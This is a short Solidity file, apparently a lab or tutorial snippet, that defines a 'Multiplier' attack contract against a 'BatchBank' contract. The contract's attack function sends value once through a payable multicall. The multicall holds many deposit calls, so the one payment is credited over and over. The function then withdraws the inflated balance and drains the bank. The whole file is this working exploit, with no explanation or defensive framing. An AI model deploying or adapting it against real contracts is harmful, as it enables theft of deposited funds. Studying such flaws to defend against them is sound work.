// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IBatchBank {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function multicall(bytes[] calldata calls) external payable;
    function balanceOf(address customer) external view returns (uint256);
}

// #region contract
/// Sends CFX once and deposits it many times.
contract Multiplier {
    IBatchBank private immutable bank;

    constructor(IBatchBank target) {
        bank = target;
    }

    function attack() external payable {
        uint256 total = address(bank).balance + msg.value;
        bytes[] memory calls = new bytes[](total / msg.value);
        for (uint256 i = 0; i < calls.length; i++) calls[i] = abi.encodeCall(IBatchBank.deposit, ());
        bank.multicall{value: msg.value}(calls);
        bank.withdraw(bank.balanceOf(address(this)));
    }

    receive() external payable {}
}
// #endregion contract
